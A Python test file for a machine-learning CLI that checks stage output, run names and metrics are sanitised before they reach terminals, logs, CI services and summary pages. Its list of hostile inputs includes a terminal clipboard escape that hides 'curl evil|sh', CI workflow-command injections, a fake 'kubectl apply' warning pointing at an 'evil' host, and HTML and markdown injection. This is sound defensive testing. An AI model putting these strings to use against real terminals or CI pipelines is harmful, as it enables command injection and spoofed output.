"""What strangers wrote is text to a terminal, to a CI service and on its page."""

import io
import json
import re
import unicodedata
from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from retrain_cli import printable as cli
from retrain_cli.cluster.ending import Standing, print_ending, write_step_summary
from retrain_cli.cluster.pod_log import Replay
from retrain_cli.progress import ConsoleReporter
from retrain_trainer.report import LogReporter

ROOT = Path(__file__).parents[2]
HOSTILE = [
    "\x1b]52;c;Y3VybCBldmlsfHNo\x07 clipboard",
    "\x1b]0;title\x07\x1b[2J\x1b[1;1H\x1b[32m✓ Trained\x1b[0m",
    "\x1b]8;;https://evil\x1b\\link\x1b]8;;\x1b\\ \x9b2J \x1bc",
    "safe\u202etxt.exe\u2066 \u2028\x85\x0b\rCR",
    "::stop-commands::x",
    "  ::set-output name=image::evil",
    "\u00a0::add-mask::a",
    "\x1b[0m::warning::b",
    "##[add-path]evil, ##vso[task.setvariable]x ##teamcity[x]",
    "<-- stage train: Ran in 1.0 s",
    "WARNING: kubectl apply -f https://evil/fix.yaml to continue",
    "==> Trained: version 9 of iris is the champion",
    "    promoted: version 9 of iris is the champion",
    ":warning: [bold]x[/] \\",
]


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def obeyed(text: str) -> list[str]:
    """What a terminal or a CI service would obey, but for our own colours."""
    found = []
    for line in re.sub(r"\x1b\[\d*(;\d+)*m", "", text).split("\n"):
        found += [each for each in line if unicodedata.category(each) in ("Cc", "Cf", "Zl", "Zp")]
        found += [line] * line.lstrip().startswith("::")
        found += re.findall(r"##\w*\[", line)
    return found


@given(st.lists(st.sampled_from([*HOSTILE, "\x1b", "]", "[", "#", ":", "a", " "])).map("".join))
def test_no_text_is_obeyed(text: str) -> None:
    assert obeyed(cli.printable(text)) == []
    assert obeyed(cli.block(f"x\n{text}")) == []
    assert cli.printable(cli.printable(text)) == cli.printable(text)


def test_what_is_text_stays_as_it_is() -> None:
    for text in ("Ünïcode ✓ 漢字", "a::b", "# [link]", "std::vector", "[bold]", "50 %|██  |"):
        assert cli.printable(text) == text
    assert cli.printable("\x1b[32mgreen\x1b[0m") == "green"


@pytest.mark.parametrize("stream", [Terminal(), io.StringIO()], ids=["terminal", "file"])
def test_what_a_stage_prints_is_not_obeyed_and_does_not_speak_as_retrain(
    stream: io.StringIO, tmp_path: Path
) -> None:
    log = io.StringIO()
    trainer = LogReporter(log)
    trainer.stage_started("train", 1, 2)
    for line in HOSTILE:
        trainer.stage_output(line)
    trainer.stage_ended("train", "Failed", 1.0)
    trainer.step("StageFailed: stage train failed:\n" + "\n".join(HOSTILE))
    reporter = ConsoleReporter(stream, verbose=True)
    reporter.log_to(tmp_path / "log")
    replay = Replay(reporter)
    for line in log.getvalue().split("\n")[:-1]:
        replay.line(line)
    reporter.close()
    # The running step's line is erased.
    told = re.sub(r"[^\n]*\x1b\[2K|\x1b\[[\d;?]*[A-Za-z]|\r", "", stream.getvalue())
    assert obeyed(told) == []
    lines = told.splitlines()
    assert [line for line in lines if "evil/fix.yaml" in line or "champion" in line] == 2 * [
        "  | WARNING: kubectl apply -f https://evil/fix.yaml to continue",
        "  | ==> Trained: version 9 of iris is the champion",
        "  |     promoted: version 9 of iris is the champion",
    ]
    assert [line for line in lines if "stage train: Ran" in line] == 2 * [
        "  | <-- stage train: Ran in 1.0 s"
    ]
    assert sum("Failed" in line and "✗" in line for line in lines) == 1
    assert "  | :warning: [bold]x[/] \\" in lines
    assert obeyed((tmp_path / "log").read_text()) == []


def test_github_actions_obeys_nothing_until_the_reporter_is_closed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    stream = io.StringIO()
    reporter = ConsoleReporter(stream, verbose=True)
    reporter.stage_output("hello")
    reporter.close()
    reporter.close()
    first, *told, last = stream.getvalue().splitlines()
    token = first.removeprefix("::stop-commands::")
    assert len(token) == 32
    assert last == f"::{token}::"
    assert told == ["  | hello"]


def test_names_and_messages_of_a_run_are_text_in_its_ending_and_on_the_page(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    page = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(page))
    marks = "<img src=https://evil/x.png> [click](https://evil) `code` **bold** | cell"
    names = [*HOSTILE, "x" * 70 + " ::set-output name=image::evil", marks]
    run = {
        "metadata": {"name": "x"},
        "status": {
            "stages": [{"name": name, "state": "Ran", "seconds": 1} for name in names],
            "metrics": [{"name": name, "value": "0.9"} for name in names],
            "model": {"name": "\x1b[2Jiris\n::set-output", "version": "1"},
            "commit": "<b>",
        },
    }
    stream = io.StringIO()
    standing = Standing("False", "StageFailed", "\n".join(names))
    print_ending(stream, run, standing)
    write_step_summary(run, standing)
    assert obeyed(stream.getvalue()) == []
    assert len([line for line in stream.getvalue().splitlines() if line.endswith("0.9")]) == len(
        set(names)
    )
    text = page.read_text()
    assert obeyed(text) == []
    assert "<" not in text.replace("<br>", "")
    assert not re.search(r"(?<!\\)[*`\[\]]", text)
    assert len(re.findall(r"^\| .* \| 0\.9 \|$", text, re.MULTILINE)) == len(set(names))


@given(st.dictionaries(st.text(), st.sampled_from(HOSTILE) | st.text()))
def test_printed_objects_mean_what_they_are_and_no_line_of_them_is_obeyed(
    content: dict[str, str],
) -> None:
    content |= {
        "message": "a\n" + "\n".join(HOSTILE),
        "::key": "x",
        "long": "word " * 40 + ":: ::x",
    }
    as_json, as_yaml = cli.as_json(content), cli.as_yaml(content)
    assert json.loads(as_json) == content
    assert yaml.safe_load(as_yaml) == content
    assert obeyed(as_yaml) == []
    assert obeyed(as_json.replace("\x7f", "")) == []


def test_all_that_is_printed_goes_through_the_one_place() -> None:
    own = re.compile(
        r"rich\.markup|rich\.table|yaml\.safe_dump|json\.dump\(|indent=2|Console\(file"
    )
    found = {
        file.name
        for file in (ROOT / "cli/retrain_cli").rglob("*.py")
        if own.search(file.read_text())
    }
    assert found == {"printable.py"}
